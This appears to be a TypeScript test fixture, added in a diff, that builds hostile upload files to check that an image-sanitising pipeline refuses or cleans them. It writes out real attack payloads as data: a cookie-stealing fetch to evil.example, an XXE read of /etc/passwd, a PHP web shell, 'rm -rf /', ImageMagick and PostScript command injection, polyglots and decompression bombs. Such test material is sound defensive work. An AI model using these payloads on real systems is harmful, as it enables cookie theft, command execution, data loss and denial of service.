@@ -1,0 +1,275 @@
+import { createHash } from 'node:crypto'
+import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
+import sharp from 'sharp'
+import { drawPicture } from '#seed/sample-picture.ts'
+
+export interface HostileFile {
+  name: string
+  bytes: Buffer
+  /** Whether a picture may come of it, cleaned; the others have to be refused. */
+  mayPass: boolean
+}
+
+const HTML = '<!doctype html><script>alert(document.domain)</script>'
+const SVG =
+  '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><rect width="9" height="9"/></svg>'
+
+/** A hundred files that somebody might send to hurt us. The same each time. */
+export async function hostileFiles(): Promise<HostileFile[]> {
+  const jpeg = await drawPicture({ width: 400, height: 300 })
+  const png = await drawPicture({ width: 400, height: 300, format: 'png' })
+  const webp = await drawPicture({ width: 400, height: 300, format: 'webp' })
+  const avif = await drawPicture({ width: 400, height: 300, format: 'avif' })
+  return [
+    ...noPictures(),
+    ...disguises(),
+    ...polyglots(jpeg, png, webp),
+    ...bombs(jpeg),
+    ...truncated({ jpeg, png, webp, avif }),
+    ...spoiled({ jpeg, png, webp, avif }),
+    ...(await oddPictures()),
+    ...(await spoiledProfiles(jpeg)),
+  ]
+}
+
+const refused = (name: string, bytes: Buffer | string): HostileFile => ({
+  ...{ name, bytes: Buffer.from(bytes as Buffer), mayPass: false },
+})
+const cleaned = (name: string, bytes: Buffer): HostileFile => ({ name, bytes, mayPass: true })
+
+/** Bytes that look like chance and are the same in every run. */
+function chance(seed: string, length: number): Buffer {
+  const blocks = Array.from({ length: Math.ceil(length / 32) }, (_, n) =>
+    createHash('sha256').update(`${seed} ${n}`).digest(),
+  )
+  return Buffer.concat(blocks).subarray(0, length)
+}
+
+function noPictures(): HostileFile[] {
+  const zip = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), chance('zip', 500)])
+  return [
+    refused('empty', ''),
+    refused('one byte', 'x'),
+    refused('one zero', Buffer.alloc(1)),
+    refused('a thousand zeros', Buffer.alloc(1_000)),
+    refused('chance', chance('plain', 50_000)),
+    refused('html', HTML),
+    refused('svg', SVG),
+    refused(
+      'svg with a declaration',
+      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${SVG}`,
+    ),
+    refused('svg with a million laughs', `<!DOCTYPE svg [<!ENTITY a "${'ha'.repeat(5_000)}">]>${SVG}`),
+    refused('svgz', Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]), deflateRawSync(SVG)])),
+    refused('javascript', 'fetch("//evil.example/"+document.cookie)'),
+    refused('pdf', '%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
+    refused('zip', zip),
+    refused('windows program', Buffer.concat([Buffer.from('MZ'), chance('exe', 4_000)])),
+    refused(
+      'linux program',
+      Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), chance('elf', 4_000)]),
+    ),
+    refused('shell script', '#!/bin/sh\nrm -rf /\n'),
+    refused('php', '<?php system($_GET["c"]); ?>'),
+    refused(
+      'imagemagick script',
+      'push graphic-context\nfill "url(https://evil.example/|id)"\npop graphic-context',
+    ),
+    refused('postscript', '%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (r) file'),
+    refused('tiff, little end first', Buffer.concat([Buffer.from('II*\0'), chance('tiff', 800)])),
+    refused('tiff, big end first', Buffer.concat([Buffer.from('MM\0*'), chance('tiff 2', 800)])),
+    refused('bmp', Buffer.concat([Buffer.from('BM'), chance('bmp', 800)])),
+    refused('icon', Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0]), chance('ico', 800)])),
+    refused('photoshop', Buffer.concat([Buffer.from('8BPS\0\x01', 'latin1'), chance('psd', 800)])),
+    refused('portable bitmap', 'P6 50000 50000 255\n'),
+    refused('radiance', '#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 50000 +X 50000\n'),
+    refused('fits', 'SIMPLE  =                    T'.padEnd(2_880)),
+    refused('vips', Buffer.concat([Buffer.from([0x08, 0xf2, 0xa6, 0xb6]), chance('vips', 800)])),
+    refused('matlab', 'MATLAB 5.0 MAT-file'.padEnd(512)),
+    refused(
+      'jpeg 2000',
+      Buffer.concat([Buffer.from('\0\0\0\x0cjP  \r\n\x87\n', 'latin1'), chance('jp2', 800)]),
+    ),
+    refused('jpeg xl', Buffer.concat([Buffer.from([0xff, 0x0a]), chance('jxl', 800)])),
+    refused(
+      'video',
+      Buffer.concat([Buffer.from('\0\0\0\x18ftypmp42\0\0\0\0mp42isom', 'latin1'), chance('mp4', 800)]),
+    ),
+  ]
+}
+
+const MAGIC = {
+  jpeg: [0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0],
+  png: [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a],
+  webp: [...Buffer.from('RIFF\x10\x27\0\0WEBPVP8 ', 'latin1')],
+  avif: [...Buffer.from('\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf', 'latin1')],
+  heic: [...Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic', 'latin1')],
+} as const
+
+/** The first bytes of a picture with something else behind them. */
+function disguises(): HostileFile[] {
+  return Object.entries(MAGIC).flatMap(([kind, magic]) => [
+    refused(`${kind}: nothing behind its first bytes`, Buffer.from(magic)),
+    refused(`${kind}: chance behind its first bytes`, Buffer.from([...magic, ...chance(kind, 20_000)])),
+    refused(`${kind}: html behind its first bytes`, Buffer.from([...magic, ...Buffer.from(HTML)])),
+  ])
+}
+
+/** Pictures that are something else as well. What comes out is a picture and nothing else. */
+function polyglots(jpeg: Buffer, png: Buffer, webp: Buffer): HostileFile[] {
+  const zipEnd = Buffer.concat([Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)])
+  return [
+    cleaned('jpeg and html', Buffer.concat([jpeg, Buffer.from(HTML)])),
+    cleaned('jpeg and zip', Buffer.concat([jpeg, zipEnd])),
+    cleaned('jpeg with a script as its comment', withSegment(jpeg, 0xfe, Buffer.from(HTML))),
+    cleaned('jpeg with php in its comment', withSegment(jpeg, 0xfe, Buffer.from('<?php phpinfo(); ?>'))),
+    cleaned('png and javascript', Buffer.concat([png, Buffer.from('/**/alert(1)')])),
+    cleaned('png with html as text', withChunk(png, 'tEXt', Buffer.from(`Comment\0${HTML}`))),
+    cleaned('png with an unknown chunk', withChunk(png, 'evIl', Buffer.from(SVG))),
+    cleaned('webp and pdf', Buffer.concat([webp, Buffer.from('%PDF-1.7')])),
+    refused('gif and javascript', 'GIF89a/*\x00\x00*/=1;alert(1)//;'),
+  ]
+}
+
+/** Small files that claim or become very large pictures. */
+function bombs(jpeg: Buffer): HostileFile[] {
+  const wide = (width: number, height: number) => {
+    const row = deflateSync(Buffer.alloc(4_000_000))
+    return pngOf(width, height, 8, 2, row)
+  }
+  const huge = Buffer.from(jpeg)
+  const frame = huge.indexOf(Buffer.from([0xff, 0xc0]))
+  huge.writeUInt16BE(50_000, frame + 5)
+  huge.writeUInt16BE(50_000, frame + 7)
+  return [
+    refused('png that claims 50,000 × 50,000', wide(50_000, 50_000)),
+    refused('png that claims 2,147,483,647 × 1', wide(2_147_483_647, 1)),
+    refused('png that claims 0 × 0', wide(0, 0)),
+    refused('jpeg that claims 50,000 × 50,000', huge),
+    refused(
+      'png of 10,000 × 10,000 in few bytes',
+      pngOf(10_000, 10_000, 1, 0, deflateSync(Buffer.alloc(12_510_000))),
+    ),
+    refused('png just above 40 megapixels', pngOf(8_001, 5_000, 1, 0, deflateSync(Buffer.alloc(5_010_000)))),
+    refused(
+      'png whose text unpacks to 50 MB',
+      withChunk(
+        pngOf(8, 8, 8, 2, Buffer.from('none')),
+        'zTXt',
+        Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), deflateSync(Buffer.alloc(50_000_000))]),
+      ),
+    ),
+    cleaned(
+      'png whose profile unpacks to 50 MB',
+      withChunk(
+        pngOf(8, 8, 8, 2, deflateSync(Buffer.alloc(8 * 25))),
+        'iCCP',
+        Buffer.concat([Buffer.from('icc\0\0', 'latin1'), deflateSync(Buffer.alloc(50_000_000))]),
+      ),
+    ),
+    cleaned(
+      'png of 6,000 × 6,000 in few bytes',
+      pngOf(6_000, 6_000, 1, 0, deflateSync(Buffer.alloc(4_506_000))),
+    ),
+  ]
+}
+
+function truncated(pictures: Record<string, Buffer>): HostileFile[] {
+  const places = [0.1, 0.5, 0.9]
+  return Object.entries(pictures).flatMap(([kind, bytes]) =>
+    places.map((place) =>
+      refused(`${kind} cut off at ${place * 100} %`, bytes.subarray(0, Math.floor(bytes.length * place))),
+    ),
+  )
+}
+
+/** One stretch in the middle is replaced: decoders may make something of it, or not. */
+function spoiled(pictures: Record<string, Buffer>): HostileFile[] {
+  return Object.entries(pictures).flatMap(([kind, bytes]) =>
+    [0.05, 0.4].map((place) => {
+      const wrong = Buffer.from(bytes)
+      chance(`${kind} ${place}`, 40).copy(wrong, Math.floor(bytes.length * place))
+      return cleaned(`${kind} with chance at ${place * 100} %`, wrong)
+    }),
+  )
+}
+
+async function oddPictures(): Promise<HostileFile[]> {
+  const create = { width: 64, height: 64, channels: 3 as const, background: '#0a0' }
+  const frames = [create, { ...create, background: '#a00' }].map((frame) =>
+    sharp({ create: frame }).png().toBuffer(),
+  )
+  const animated = sharp(await Promise.all(frames), { join: { animated: true } })
+  const picture = (width: number, height: number) => sharp({ create: { ...create, width, height } })
+  return [
+    refused('animated gif', await animated.clone().gif().toBuffer()),
+    cleaned('animated webp', await animated.clone().webp().toBuffer()),
+    refused('tiff that is one', await picture(64, 64).tiff().toBuffer()),
+    cleaned('1 × 1', await picture(1, 1).png().toBuffer()),
+    cleaned('1 × 20,000', await picture(1, 20_000).png().toBuffer()),
+    cleaned('20,000 × 1', await picture(20_000, 1).png().toBuffer()),
+    cleaned('cmyk jpeg', await picture(64, 64).toColourspace('cmyk').jpeg().toBuffer()),
+    cleaned('grey jpeg', await picture(64, 64).greyscale().jpeg().toBuffer()),
+    cleaned('png of 16 bits', await picture(64, 64).toColourspace('rgb16').png().toBuffer()),
+    cleaned('png to be seen through', await picture(64, 64).ensureAlpha(0).png().toBuffer()),
+    cleaned('png with a palette', await picture(64, 64).png({ palette: true }).toBuffer()),
+    cleaned('progressive jpeg', await picture(2_000, 2_000).jpeg({ progressive: true }).toBuffer()),
+  ]
+}
+
+async function spoiledProfiles(jpeg: Buffer): Promise<HostileFile[]> {
+  const exif = (bytes: Buffer) => withSegment(jpeg, 0xe1, Buffer.concat([Buffer.from('Exif\0\0'), bytes]))
+  const icc = (bytes: Buffer) =>
+    withSegment(jpeg, 0xe2, Buffer.concat([Buffer.from('ICC_PROFILE\0\x01\x01', 'latin1'), bytes]))
+  // An entry of the list points back to the list itself.
+  const loop = Buffer.from('49492a000800000001006987040001000000080000000800000000', 'hex')
+  const wrongSums = Buffer.from(await drawPicture({ width: 64, height: 64, format: 'png' }))
+  wrongSums.writeUInt32BE(0, 29)
+  return [
+    cleaned('exif of chance', exif(chance('exif', 3_000))),
+    cleaned('exif as long as it can be', exif(Buffer.alloc(65_500, 'A'))),
+    cleaned('exif that goes round in circles', exif(loop)),
+    cleaned('a profile of chance', icc(chance('icc', 3_000))),
+    cleaned('a profile of nothing', icc(Buffer.alloc(0))),
+    cleaned(
+      'four hundred comments',
+      Array.from({ length: 400 }).reduce<Buffer>(
+        (bytes) => withSegment(bytes, 0xfe, Buffer.alloc(10_000)),
+        jpeg,
+      ),
+    ),
+    refused('png with a wrong checksum', wrongSums),
+  ]
+}
+
+/** Behind the first two bytes of a JPEG. */
+export function withSegment(jpeg: Buffer, marker: number, content: Buffer): Buffer {
+  const head = Buffer.from([0xff, marker, 0, 0])
+  head.writeUInt16BE(content.length + 2, 2)
+  return Buffer.concat([jpeg.subarray(0, 2), head, content, jpeg.subarray(2)])
+}
+
+/** Behind the header of a PNG. */
+export function withChunk(png: Buffer, type: string, content: Buffer): Buffer {
+  return Buffer.concat([png.subarray(0, 33), chunk(type, content), png.subarray(33)])
+}
+
+function chunk(type: string, content: Buffer): Buffer {
+  const body = Buffer.concat([Buffer.from(type, 'latin1'), content])
+  const length = Buffer.alloc(4)
+  length.writeUInt32BE(content.length)
+  const sum = Buffer.alloc(4)
+  sum.writeUInt32BE(crc32(body))
+  return Buffer.concat([length, body, sum])
+}
+
+export function pngOf(width: number, height: number, bits: number, colour: number, packed: Buffer): Buffer {
+  const header = Buffer.alloc(13)
+  header.writeUInt32BE(width, 0)
+  header.writeUInt32BE(height, 4)
+  header.set([bits, colour], 8)
+  return Buffer.concat([
+    Buffer.from(MAGIC.png),
+    ...[chunk('IHDR', header), chunk('IDAT', packed), chunk('IEND', Buffer.alloc(0))],
+  ])
+}
